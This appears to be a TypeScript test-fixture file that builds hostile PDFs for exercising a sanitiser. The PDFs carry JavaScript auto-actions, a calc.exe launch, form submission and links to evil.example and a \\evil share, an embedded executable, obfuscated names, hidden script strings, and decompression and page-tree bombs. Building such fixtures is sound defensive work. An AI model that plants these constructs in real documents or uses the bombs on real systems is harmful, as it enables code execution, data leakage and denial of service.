import { deflateSync } from 'node:zlib'
import { pdfFile } from './pdfs.ts'

/** PDFs that do more than show pages, one for each way. */

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const annotation = (entries: string) => `<< /Type /Annot /Rect [0 0 50 50] ${entries} >>`
/** A page with something on it, as object 10. */
const onPage = (entries: string, ...objects: string[]) =>
  pdfFile({ page: '/Annots [10 0 R]', objects: [annotation(entries), ...objects] })

const packedObjects = (objects: readonly [number: number, text: string][]) => {
  const texts = objects.map(([, text]) => text)
  const heads = objects.map(
    ([number], at) => `${number} ${texts.slice(0, at).join(' ').length + (at > 0 ? 1 : 0)}`,
  )
  const first = `${heads.join(' ')} `
  const data = deflateSync(first + texts.join(' ')).toString('latin1')
  return `<< /Type /ObjStm /N ${objects.length} /First ${first.length} /Filter /FlateDecode /Length ${data.length} >>\nstream\n${data}\nendstream`
}

export const ACTIVE_PDFS = {
  'a script of a page': pdfFile({ page: `/AA << /O ${SCRIPT} >>` }),
  'a script among the names': pdfFile({ catalogue: `/Names << /JavaScript << /Names [(a) ${SCRIPT}] >> >>` }),
  'a program to start': pdfFile({ catalogue: '/OpenAction << /S /Launch /F (calc.exe) >>' }),
  'a form that is sent away': onPage(
    '/Subtype /Widget /FT /Btn /T (a) /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>',
  ),
  'data that are fetched': onPage('/Subtype /Link /A << /S /ImportData /F (a.fdf) >>'),
  'an address that opens by itself': pdfFile({
    catalogue: '/OpenAction << /S /URI /URI (https://evil.example/) >>',
  }),
  'an address that opens with a page': pdfFile({
    page: '/AA << /O << /S /URI /URI (https://evil.example/) >> >>',
  }),
  'a file on a share': pdfFile({
    catalogue: '/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\a.pdf) /D [0 /Fit] >>',
  }),
  'a file in the file': pdfFile({ catalogue: '/OpenAction << /S /GoToE /T << /R /C /N (a) >> >>' }),
  'a form of XML': pdfFile({
    catalogue: '/AcroForm << /Fields [] /XFA 10 0 R >>',
    objects: ['<< /Length 11 >>\nstream\n<xdp:xdp/>\n\nendstream'],
  }),
  'a pinned file': onPage(
    '/Subtype /FileAttachment /FS 11 0 R',
    '<< /Type /Filespec /F (a.exe) /EF << /F 12 0 R >> >>',
    '<< /Length 2 >>\nstream\nMZ\nendstream',
  ),
  'a film': onPage('/Subtype /RichMedia /RichMediaContent << /Assets << >> >>'),
  'a screen that plays': onPage('/Subtype /Screen /A << /S /Rendition /OP 0 >>'),
  'a script whose name is written otherwise': pdfFile({
    catalogue: '/OpenAction << /S /J#61v#61Script /J#53 (app.alert\\(1\\)) >>',
  }),
  'a script in packed objects': pdfFile({
    catalogue: '/OpenAction 20 0 R',
    objects: [packedObjects([[20, SCRIPT]])],
  }),
  'a script whose kind is somewhere else': pdfFile({
    catalogue: '/OpenAction 10 0 R',
    objects: ['<< /S 11 0 R /JS (app.alert\\(1\\)) >>', '/JavaScript'],
  }),
  'a script that nothing names': pdfFile({ objects: [SCRIPT] }),
  'a script deep in lists': pdfFile({ objects: [`${'['.repeat(50)}${SCRIPT}${']'.repeat(50)}`] }),
  'a stream from another file': pdfFile({
    objects: ['<< /F (\\\\\\\\evil\\\\a) /Length 2 >>\nstream\nab\nendstream'],
  }),
} as const

/** What stands behind the end of a file, and in front of its last version. */
const SAID = '<script>alert(1)</script>'

/** Files that say more than they show, harmless once it is left out. */
export const TALKATIVE_PDFS = {
  'HTML behind its end': Buffer.concat([pdfFile(), Buffer.from(`\n<html>${SAID}</html>`)]),
  'an earlier version': Buffer.concat([
    pdfFile({ content: `BT /F1 18 Tf 20 100 Td (${SAID}) Tj ET` }),
    Buffer.from(
      '5 0 obj\n<< /Length 39 >>\nstream\nBT /F1 18 Tf 20 100 Td (Hello) Tj ET    \nendstream\nendobj\n',
    ),
    Buffer.from('trailer\n<< /Root 1 0 R /Size 10 >>\nstartxref\n0\n%%EOF\n'),
  ]),
  'a comment between its objects': Buffer.from(
    pdfFile().toString('latin1').replace('2 0 obj', `%${SAID}\n2 0 obj`),
  ),
  'an object that nothing names': pdfFile({ objects: [`(${SAID})`] }),
  'a link': pdfFile({
    page: '/Annots [10 0 R]',
    objects: [annotation(`/Subtype /Link /A << /S /URI /URI (https://example.com/${SAID}) >>`)],
  }),
  'its title': pdfFile({ trailer: '/Info 10 0 R', objects: [`<< /Title (${SAID}) >>`] }),
  'data about it': pdfFile({
    catalogue: '/Metadata 10 0 R',
    objects: [`<< /Type /Metadata /Length ${SAID.length} >>\nstream\n${SAID}\nendstream`],
  }),
} as const

/** Signed by somebody. */
export const signedPdf = () =>
  pdfFile({
    catalogue: '/AcroForm << /Fields [10 0 R] /SigFlags 3 >>',
    page: '/Annots [10 0 R]',
    objects: [
      annotation('/Subtype /Widget /FT /Sig /T (a) /V 11 0 R'),
      '<< /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 10 20 30] /Contents <41> >>',
    ],
  })

/** A field that was filled in; `drawn` when the file says how it looks. */
export const filledForm = (drawn: boolean) =>
  pdfFile({
    catalogue: '/AcroForm << /Fields [10 0 R] >>',
    page: '/Annots [10 0 R]',
    objects: [
      annotation(`/Subtype /Widget /FT /Tx /T (name) /V (Taro) ${drawn ? '/AP << /N 11 0 R >>' : ''}`),
      '<< /Type /XObject /Subtype /Form /BBox [0 0 50 50] /Resources << /Font << /F1 3 0 R >> >> /Length 29 >>\nstream\nBT /F1 9 Tf 2 2 Td (Taro) Tj ET\nendstream',
    ],
  })

/** A hundred kilobytes that draw three million times. */
export const pdfOfManyLines = () => {
  const content = deflateSync('0 0 m 1 1 l S '.repeat(1_500_000)).toString('latin1')
  return pdfFile({ packed: content })
}

/** Packed objects that unpack to 600 MB. */
export const pdfThatUnpacks = () => {
  const data = deflateSync(Buffer.alloc(600 * 1024 * 1024, 0x20)).toString('latin1')
  return pdfFile({
    objects: [
      `<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length ${data.length} >>\nstream\n${data}\nendstream`,
    ],
  })
}

/** A tree of pages whose branches are the same: ten levels, each of which names the next ten times. */
export const pdfOfBranches = () => {
  const level = (next: number) =>
    `<< /Type /Pages /Parent 2 0 R /Count 10 /Kids [${`${next} 0 R `.repeat(10)}] >>`
  const objects = Array.from({ length: 10 }, (_, at) => level(at === 9 ? 4 : 11 + at))
  return pdfFile({ kids: '10 0 R', objects })
}
